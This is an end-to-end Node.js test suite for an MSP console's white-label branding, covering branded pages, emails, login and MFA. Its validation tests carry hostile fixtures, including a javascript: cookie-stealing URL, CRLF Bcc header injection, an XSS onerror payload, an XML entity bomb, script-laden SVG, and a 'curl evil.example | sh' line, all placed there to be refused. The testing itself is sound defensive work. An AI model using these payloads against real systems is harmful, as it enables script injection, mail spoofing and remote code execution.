// Issue 8 ("Done when") tried as a new user would, through the real gateway: an MSP's
// super admin (a person, activated from the mailed link) sets the MSP's name, logo (a real
// PNG), colours, support contacts, sender, social links and login domain; a user of one of
// its customers then sees that brand on the activation, enrolment, login and MFA pages in
// Chromium on the MSP's login domain (a resolver rule maps it to the gateway, as the MSP's
// DNS would; screenshots in $E2E_SCREENSHOTS, default <tmp>/console-e2e-screenshots), and
// in every mail it receives (activation, e-mail one-time code, password recovery), read
// from a small SMTP server of this file so that the envelope sender is seen too. Hostile
// values and uploads are refused with problem JSON and stable codes, and change nothing.
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { createServer } from 'node:net';
import { launchChromium, screenshot } from './lib/browser.mjs';
import { png } from './lib/png.mjs';
import { useStack, waitFor } from './lib/stack.mjs';
import { assertProblem, jsonApi } from './lib/api.mjs';
import { GOOD_PASSWORD, activateWithTotp, nextTotp, parseMail, pkce, sessionTokens, signIn } from './lib/identity.mjs';

const tag = randomBytes(3).toString('hex');
const PLATFORM_SENDER = 'bounces@platform.example';
const DOMAIN = `backup-${tag}.sakura-it.example`;

// ---- a minimal SMTP server: every message with its envelope ----
/** Listens on a free loopback port; resolves {port, mails: [{from, to, raw, ...parsed}]}. */
function startSmtp() {
  const mails = [];
  const server = createServer((sock) => {
    let buf = '';
    let data = null; // the DATA text while it is being received
    let env = { from: null, to: [] };
    const say = (line) => sock.write(`${line}\r\n`);
    say('220 walkthrough.smtp ESMTP');
    sock.setEncoding('utf8');
    sock.on('data', (chunk) => {
      buf += chunk;
      for (;;) {
        if (data !== null) {
          const end = buf.indexOf('\r\n.\r\n');
          if (end < 0 && !(data === '' && buf.startsWith('.\r\n'))) return;
          const body = data === '' && buf.startsWith('.\r\n') ? '' : buf.slice(0, end + 2);
          buf = buf.slice(data === '' && buf.startsWith('.\r\n') ? 3 : end + 5);
          const raw = body.replace(/^\.\./gm, '.');
          mails.push({ from: env.from, to: env.to, raw, ...parseMail(`smtp-${mails.length}`, raw) });
          env = { from: null, to: [] };
          data = null;
          say('250 2.0.0 queued');
          continue;
        }
        const nl = buf.indexOf('\r\n');
        if (nl < 0) return;
        const line = buf.slice(0, nl);
        buf = buf.slice(nl + 2);
        const verb = line.slice(0, 4).toUpperCase();
        if (verb === 'EHLO') sock.write('250-walkthrough.smtp\r\n250 8BITMIME\r\n');
        else if (verb === 'HELO') say('250 walkthrough.smtp');
        else if (verb === 'MAIL') {
          env.from = /<([^>]*)>/.exec(line)?.[1] ?? null;
          say('250 2.1.0 ok');
        } else if (verb === 'RCPT') {
          env.to.push(/<([^>]*)>/.exec(line)?.[1]);
          say('250 2.1.5 ok');
        } else if (verb === 'DATA') {
          data = '';
          say('354 end with <CRLF>.<CRLF>');
        } else if (verb === 'QUIT') {
          say('221 2.0.0 bye');
          sock.end();
          return;
        } else say('250 ok'); // RSET, NOOP
      }
    });
    sock.on('error', () => {});
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => {
    server.unref();
    resolve({ port: server.address().port, mails, close: () => server.close() });
  }));
}

const smtp = await startSmtp();
const s = useStack({ env: { CONSOLE_SMTP_URL: `smtp://127.0.0.1:${smtp.port}`, CONSOLE_MAIL_FROM: PLATFORM_SENDER } });
const st = () => s.stack;

/** The first message to address matching re (subject), waiting for the outbox and identity. */
const mailTo = (address, re = /./) =>
  waitFor(() => smtp.mails.find((m) => m.to.includes(address) && re.test(m.headers.subject || '')), {
    what: `a mail to ${address} (${re})`,
    timeout: 20000,
  });

const LOGO = png(160, 48, [255, 255, 255], [0, 105, 92]);

const BRAND = {
  product_name: 'Sakura Backup',
  primary_color: '#c2185b',
  secondary_color: '#fce4ec',
  accent_color: '#00695c',
  support_email: `support@sakura-it.example`,
  support_phone: '+81 3-5555-0100',
  support_url: 'https://help.sakura-it.example/',
  sender_name: 'Sakura Backup サポート',
  sender_email: 'noreply@sakura-it.example',
  social_links: {
    x: 'https://x.com/sakura_it',
    facebook: 'https://www.facebook.com/sakura.it',
    youtube: 'https://www.youtube.com/@sakura-it',
    other: 'https://blog.sakura-it.example/',
  },
  footer_text: '© さくらIT株式会社',
  default_language: 'ja',
  login_domain: DOMAIN,
};

/** Asserts a message wears the brand: sender, Reply-To, envelope, subject, both parts. */
function assertBranded(m, to, what) {
  assert.equal(m.from, PLATFORM_SENDER, `${what}: the envelope sender stays the platform's`);
  assert.deepEqual(m.to, [to], `${what}: the envelope recipient`);
  assert.equal(m.headers.from, `${BRAND.sender_name} <${BRAND.sender_email}>`, `${what}: From`);
  assert.equal(m.headers['reply-to'], BRAND.support_email, `${what}: Reply-To the MSP's support`);
  assert.equal(m.headers.to, to);
  assert.ok(m.headers.subject.startsWith(`${BRAND.product_name}: `), `${what}: subject ${m.headers.subject}`);
  assert.ok(m.text && m.html, `${what}: a plain-text and an HTML part`);
  for (const [part, body] of [['text', m.text], ['html', m.html]]) {
    assert.ok(body.includes(BRAND.product_name), `${what} ${part}: the product name`);
    assert.ok(body.includes(BRAND.support_email), `${what} ${part}: the support address`);
    assert.ok(body.includes(BRAND.social_links.x), `${what} ${part}: the social links`);
    assert.ok(body.includes(BRAND.footer_text), `${what} ${part}: the footer`);
    assert.ok(!/\bConsole\b/.test(body), `${what} ${part}: never the platform's product name`);
  }
  assert.ok(m.html.includes(`background:${BRAND.primary_color}`), `${what}: the primary colour`);
  assert.ok(m.html.includes(`background:${BRAND.secondary_color}`), `${what}: the secondary colour`);
}

describe('walkthrough (issue 8): an MSP white-labels the console for its customers', () => {
  let platform, msp, customer, admin, adminToken, logoUrl, port;
  /** PUT /api/v1/tenants/{msp}/branding/<what> with these bytes, as the MSP's super admin. */
  const upload = (what, bytes, type) =>
    st().request(`/api/v1/tenants/${msp.id}/branding/${what}`, { method: 'PUT', auth: adminToken, headers: { 'content-type': type }, body: bytes });
  const user = { email: `yui.${tag}@kokyaku-a.example.jp` };
  let browser;

  before(async () => {
    platform = jsonApi(st(), await st().token());
    port = new URL(st().url).port;
    browser = await launchChromium({ hosts: [DOMAIN] });
  });
  after(async () => {
    if (browser) await browser.close();
    smtp.close();
  });

  const shot = (t, page, name) => screenshot(t, page, `walkthrough-branding-${name}`);

  /** What every branded page shows: name, logo, colours, support, social links, footer. */
  async function assertBrandedPage(page, what) {
    assert.equal(await page.textContent('#brand-name'), BRAND.product_name, `${what}: product name`);
    assert.match(await page.title(), /Sakura Backup/, `${what}: title`);
    const logo = await page.$('#brand-logo');
    assert.ok(logo, `${what}: the logo`);
    assert.equal(await logo.getAttribute('src'), logoUrl, `${what}: the uploaded logo`);
    assert.deepEqual(await logo.evaluate((img) => [img.complete, img.naturalWidth, img.naturalHeight]), [true, 160, 48], `${what}: the logo loaded`);
    assert.equal(await page.$eval('header.brand', (e) => getComputedStyle(e).backgroundColor), 'rgb(194, 24, 91)', `${what}: primary colour`);
    assert.equal(await page.$eval('body', (e) => getComputedStyle(e).backgroundColor), 'rgb(252, 228, 236)', `${what}: secondary colour`);
    const button = await page.$('button[type=submit]');
    if (button) assert.equal(await button.evaluate((e) => getComputedStyle(e).backgroundColor), 'rgb(0, 105, 92)', `${what}: accent colour`);
    assert.match(await page.textContent('#brand-support'), /support@sakura-it\.example/, `${what}: support`);
    assert.match(await page.textContent('#brand-footer'), /さくらIT株式会社/, `${what}: footer`);
    const social = await page.$$eval('#brand-social a', (as) => as.map((a) => a.href));
    for (const url of Object.values(BRAND.social_links)) assert.ok(social.includes(url), `${what}: ${url} in ${social}`);
    assert.ok(!(await page.content()).includes('>Console<'), `${what}: not the platform's name`);
  }

  test('1. the platform opens the MSP; its super admin activates from the mail and signs in', async () => {
    const r = await platform('POST', '/api/v1/tenants', { name: `さくらIT ${tag}`, kind: 'msp' });
    assert.equal(r.status, 201, r.text);
    msp = r.json;
    const email = `kenji.${tag}@sakura-it.example`;
    const u = await platform('POST', '/api/v1/users', {
      tenant_id: msp.id, first_name: '健二', last_name: '小林', preferred_currency: 'JPY', language: 'ja', primary_email: email,
      phone: '+81 3-5555-0101', street: '渋谷1-1', city: '渋谷区', state: '東京都', country: 'JP', postal_code: '150-0002', time_zone: 'Asia/Tokyo',
    });
    assert.equal(u.status, 201, u.text);
    assert.equal((await platform('PUT', `/api/v1/users/${u.json.id}/grants`, [{ role: 'msp_super_admin', tenant_ids: [msp.id] }])).status, 200);
    const mail = await mailTo(email);
    assert.equal(mail.from, PLATFORM_SENDER);
    const token = /activate\?token=([A-Za-z0-9_-]+)/.exec(mail.text)[1];
    const account = await activateWithTotp(st(), { id: u.json.id, username: email, token });
    adminToken = (await sessionTokens(st(), await signIn(st(), account))).access_token;
    admin = jsonApi(st(), adminToken);
    const c = await admin('POST', '/api/v1/tenants', { name: '顧客会社A', kind: 'customer', parent_id: msp.id });
    assert.equal(c.status, 201, c.text);
    customer = c.json;
  });

  test('2. the MSP sets its name, logo, colours, support contacts, sender, social links and login domain', async () => {
    const r = await admin('PUT', `/api/v1/tenants/${msp.id}/branding`, BRAND);
    assert.equal(r.status, 200, r.text);
    for (const [k, v] of Object.entries(BRAND)) assert.deepEqual(r.json[k], v, k);
    const anonymous = await st().request(`/api/v1/tenants/${msp.id}/branding/logo`, { method: 'PUT', headers: { 'content-type': 'image/png' }, body: LOGO });
    assertProblem(anonymous, 401, 'unauthorized');
    const logo = await upload('logo', LOGO, 'image/png');
    assert.equal(logo.status, 200, logo.text);
    assert.equal(logo.json.content_type, 'image/png');
    assert.deepEqual([logo.json.width, logo.json.height], [160, 48]);
    logoUrl = logo.json.url;
    const served = await st().fetch(logoUrl);
    assert.equal(served.status, 200);
    assert.equal(served.headers.get('content-type'), 'image/png');
    assert.equal(served.headers.get('x-content-type-options'), 'nosniff');
    assert.deepEqual(Buffer.from(await served.arrayBuffer()), LOGO);
    // the customer inherits all of it; the public answer by the login domain shows it
    const eff = await st().request(`/api/v1/branding/effective?host=${DOMAIN}`);
    assert.equal(eff.status, 200, eff.text);
    assert.equal(eff.json.product_name, BRAND.product_name);
    assert.equal(eff.json.logo_url, logoUrl);
    assert.deepEqual(eff.json.social_links, BRAND.social_links);
    const inherited = await st().request(`/api/v1/branding/effective?tenant_id=${customer.id}`);
    assert.deepEqual(inherited.json, eff.json, "the customer's brand is its MSP's");
  });

  test('3. hostile values are refused field by field, with stable codes, and change nothing', async () => {
    const url = `/api/v1/tenants/${msp.id}/branding`;
    const bad = {
      primary_color: 'red',
      secondary_color: '#fff',
      accent_color: 'rgb(0,0,0)',
      support_url: 'javascript:alert(document.cookie)',
      support_email: 'support@sakura-it.example\r\nBcc: everyone@example.com',
      sender_name: 'Sakura\r\nBcc: victim@example.com',
      sender_email: 'noreply@sakura-it',
      social_links: { x: 'http://x.com/sakura_it', myspace: 'https://myspace.com/sakura' },
      product_name: 'x'.repeat(65),
      footer_text: 'line\u001b[31m',
      login_domain: 'sakura-it.example/login',
    };
    const r = await admin('PUT', url, { ...BRAND, ...bad });
    assertProblem(r, 400, 'validation_failed');
    const fields = new Set(r.json.errors.map((e) => e.field.split('.')[0]));
    for (const f of Object.keys(bad)) assert.ok(fields.has(f), `${f} named in ${r.text}`);
    for (const e of r.json.errors) {
      assert.match(e.code, /^[a-z_]+$/, `a stable code: ${JSON.stringify(e)}`);
      assert.ok(e.message.length > 10, `a message a person understands: ${JSON.stringify(e)}`);
    }
    assertProblem(await admin('PUT', url, { ...BRAND, colour: '#000000' }), 400, 'unknown_field');
    // a login domain is one MSP's only: another MSP cannot take it over
    const other = await platform('POST', '/api/v1/tenants', { name: `Other MSP ${tag}`, kind: 'msp' });
    assertProblem(await platform('PUT', `/api/v1/tenants/${other.json.id}/branding`, { login_domain: DOMAIN.toUpperCase() }), 409, 'login_domain_taken');
    // markup in a text field is only text wherever it shows
    const pv = await admin('POST', `/api/v1/tenants/${msp.id}/branding/preview`, { product_name: '<img src=x onerror=alert(1)>' });
    assert.equal(pv.status, 200, pv.text);
    assert.ok(!pv.json.login_page.includes('<img src=x'), 'escaped in the page');
    assert.ok(pv.json.login_page.includes('&lt;img src=x onerror=alert(1)&gt;'));
    assert.ok(!pv.json.mail.html.includes('<img src=x'), 'escaped in the mail');
    const now = await admin('GET', url);
    for (const [k, v] of Object.entries(BRAND)) assert.deepEqual(now.json[k], v, `${k} unchanged`);
  });

  test('4. hostile uploads are refused by content, with stable codes; the logo in force stays', async () => {
    const put = (bytes, type) => upload('logo', bytes, type);
    const cases = [
      // an entity-expansion bomb
      [`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><text>&c;</text></svg>`, 'image/svg+xml', 400, 'svg_unsafe'],
      // an HTML page declared as a PNG
      ['<html><body><script>alert(document.cookie)</script></body></html>', 'image/png', 400, 'svg_unsafe'],
      // a script declared as a PNG
      ['#!/bin/sh\ncurl https://evil.example | sh\n', 'image/png', 415, 'image_unsupported'],
      // a GIF: not a format the brand takes
      [Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(32)]), 'image/gif', 415, 'image_unsupported'],
      // a PNG cut short
      [LOGO.subarray(0, 45), 'image/png', 400, 'image_malformed'],
      // a decompression bomb: a header that claims 30000 x 30000 pixels
      [png(30000, 30000, [0, 0, 0], [0, 0, 0], { idat: false }), 'image/png', 400, 'image_dimensions'],
      // more than 512 KiB
      [Buffer.concat([LOGO, Buffer.alloc(600 * 1024)]), 'image/png', 413, 'payload_too_large'],
    ];
    for (const [bytes, type, status, code] of cases) {
      const r = await put(bytes, type);
      assertProblem(r, status, code);
      assert.ok(r.json.detail.length > 10, r.text);
    }
    // an SVG with a script and handlers is taken only as its sanitized rebuild
    const svg = await upload('favicon',
      '<svg xmlns="http://www.w3.org/2000/svg" width="32" height="32" onload="alert(1)"><script>alert(2)</script><rect width="32" height="32" fill="#c2185b"/></svg>',
      'image/svg+xml');
    assert.equal(svg.status, 200, svg.text);
    assert.ok(svg.json.removed >= 2, svg.text);
    const served = await st().fetch(svg.json.url);
    const text = await served.text();
    assert.ok(!/script|onload/.test(text), text);
    assert.match(served.headers.get('content-security-policy'), /default-src 'none'/);
    assert.equal((await admin('DELETE', `/api/v1/tenants/${msp.id}/branding/favicon`)).status, 204);
    const eff = await st().request(`/api/v1/branding/effective?host=${DOMAIN}`);
    assert.equal(eff.json.logo_url, logoUrl, 'the good logo is still the one in force');
  });

  test("5. a customer's user gets the activation mail in the MSP's name", async () => {
    const u = await admin('POST', '/api/v1/users', {
      tenant_id: customer.id, title: '課長', first_name: '結衣', last_name: '森', preferred_currency: 'JPY', language: 'ja',
      primary_email: user.email, phone: '+81 6-1234-5678', street: '梅田1-1', city: '大阪市', state: '大阪府', country: 'JP',
      postal_code: '530-0001', time_zone: 'Asia/Tokyo',
    });
    assert.equal(u.status, 201, u.text);
    user.id = u.json.id;
    assert.equal((await admin('PUT', `/api/v1/users/${user.id}/grants`, [{ role: 'tenant_admin', tenant_ids: [customer.id] }])).status, 200);
    const m = await mailTo(user.email);
    assertBranded(m, user.email, 'the activation mail');
    assert.equal(m.headers.subject, 'Sakura Backup: アカウントを有効にしてください');
    assert.ok(m.html.includes(logoUrl), 'the logo in the HTML part');
    const link = /(https?:\/\/\S+\/activate\?token=[A-Za-z0-9_-]+\S*)/.exec(m.text)?.[1];
    assert.ok(link, m.text);
    user.link = new URL(link);
    // white label: the link leads to the MSP's login domain, not to the platform's host
    assert.equal(user.link.host, `${DOMAIN}:${port}`, `the link's host: ${link}`);
    assert.ok(m.html.includes(`${user.link.origin}${logoUrl}`), 'the logo is fetched from the login domain too');
  });

  test('6. in Chromium on the login domain: the activation and enrolment pages wear the brand', async (t) => {
    const ctx = await browser.newContext({ locale: 'ja-JP' });
    const page = await ctx.newPage();
    const r = await page.goto(`http://${DOMAIN}:${port}${user.link.pathname}${user.link.search}`);
    assert.equal(r.status(), 200);
    await assertBrandedPage(page, 'activation page');
    assert.equal(await page.getAttribute('html', 'lang'), 'ja');
    await shot(t, page, '1-activate');
    await page.fill('#password', GOOD_PASSWORD);
    await page.fill('#recovery_question', '最初のペットは？');
    await page.fill('#recovery_answer', '三毛猫のタマ');
    await page.check('input[value=owl]');
    await page.click('button[type=submit]');
    await page.waitForURL(/\/mfa\/enroll/);
    assert.equal(new URL(page.url()).host, `${DOMAIN}:${port}`, 'still on the login domain');
    await assertBrandedPage(page, 'enrolment page');
    await shot(t, page, '2-enroll');
    user.account = { id: user.id, username: user.email, password: GOOD_PASSWORD, secret: (await page.textContent('#secret')).trim(), lastStep: -1 };
    user.otpauth = await page.getAttribute('#otpauth', 'href');
    await page.fill('#pass_code', await nextTotp(user.account));
    await page.click('button[type=submit]');
    assert.ok(await page.textContent('#done'));
    await assertBrandedPage(page, 'activated page');
    await shot(t, page, '3-activated');
    await ctx.close();
  });

  test('6b. the authenticator app names the MSP, not the platform', () => {
    const uri = new URL(user.otpauth); // otpauth://totp/<issuer>:<account>?...&issuer=<issuer>
    assert.equal(uri.searchParams.get('issuer'), BRAND.product_name);
    assert.ok(decodeURIComponent(uri.pathname).startsWith(`/${BRAND.product_name}:`), uri.pathname);
  });

  test('7. in Chromium on the login domain: sign-in through the login and MFA pages', async (t) => {
    const ctx = await browser.newContext({ locale: 'ja-JP' });
    const page = await ctx.newPage();
    const callback = `${st().url}/console/callback`;
    // (the console's callback page is not the backend's: what matters is the URL the browser is sent to)
    const p = pkce();
    const url = new URL(`http://${DOMAIN}:${port}/oauth2/authorize`);
    for (const [k, v] of Object.entries({ response_type: 'code', client_id: 'console-web', redirect_uri: callback, scope: 'openid profile email', state: 'walk', nonce: 'n', code_challenge: p.challenge, code_challenge_method: 'S256' }))
      url.searchParams.set(k, v);
    await page.goto(url.toString());
    await page.waitForURL(/\/login\?/);
    assert.equal(new URL(page.url()).host, `${DOMAIN}:${port}`);
    await assertBrandedPage(page, 'login page');
    await shot(t, page, '4-login');
    await page.fill('#username', user.email);
    await page.click('button[type=submit]');
    await page.fill('#password', GOOD_PASSWORD);
    await page.click('button[type=submit]');
    await page.waitForURL(/\/mfa\?/);
    await assertBrandedPage(page, 'MFA page');
    await shot(t, page, '5-mfa');
    await page.fill('#pass_code', await nextTotp(user.account));
    // the answer is a redirect to the client (or the page again, with an error)
    const seen = [];
    page.on('response', (r) => seen.push(`${r.status()} ${r.request().method()} ${r.url()} -> ${r.headers().location || ''}`));
    page.on('requestfailed', (r) => seen.push(`failed ${r.url()}: ${r.failure()?.errorText}`));
    await page.click('button[type=submit]');
    await page.waitForURL(/\/console\/callback\?/, { timeout: 15000 }).catch(() => {});
    assert.match(page.url(), /\/console\/callback\?/, `back at the client, not at ${page.url()}: ${await page.textContent('body')}\n${seen.join('\n')}`);
    const code = new URL(page.url()).searchParams.get('code');
    assert.ok(code);
    const tok = await st().request('/oauth2/token', {
      method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ grant_type: 'authorization_code', client_id: 'console-web', code, code_verifier: p.verifier, redirect_uri: callback }).toString(),
    });
    assert.equal(tok.status, 200, tok.text);
    user.api = jsonApi(st(), tok.json.access_token);
    assert.equal((await user.api('GET', `/api/v1/tenants/${customer.id}`)).status, 200);
    await ctx.close();
  });

  test('8. every other mail the user receives wears the brand: a one-time code, a password recovery', async () => {
    const before = smtp.mails.length;
    const f = await user.api('POST', '/api/v1/me/factors', { type: 'email' });
    assert.ok(f.status === 200 || f.status === 201, f.text);
    const codeMail = await waitFor(() => smtp.mails.slice(before).find((m) => m.to.includes(user.email)), { what: 'the code mail', timeout: 20000 });
    assertBranded(codeMail, user.email, 'the one-time code mail');
    const code = /\b(\d{6})\b/.exec(codeMail.text)?.[1];
    assert.ok(code, codeMail.text);
    const act = await user.api('POST', `/api/v1/me/factors/${f.json.id}/activate`, { pass_code: code });
    assert.equal(act.status, 200, act.text);
    const mid = smtp.mails.length;
    const rec = await st().request('/api/v1/authn/recovery/password', {
      method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: user.email }),
    });
    assert.ok(rec.status >= 200 && rec.status < 300, rec.text);
    const recMail = await waitFor(() => smtp.mails.slice(mid).find((m) => m.to.includes(user.email)), { what: 'the recovery mail', timeout: 20000 });
    assertBranded(recMail, user.email, 'the password recovery mail');
    const link = new URL(/(https?:\/\/\S+\/password\/reset\?token=\S+)/.exec(recMail.text)?.[1]);
    assert.equal(link.host, `${DOMAIN}:${port}`, 'the recovery link leads to the login domain');
    // no mail to anyone of this customer left the platform in another name
    const theirs = smtp.mails.filter((m) => m.to.includes(user.email));
    assert.equal(theirs.length, 3);
    for (const m of theirs) assert.equal(m.headers['reply-to'], BRAND.support_email);
  });
});
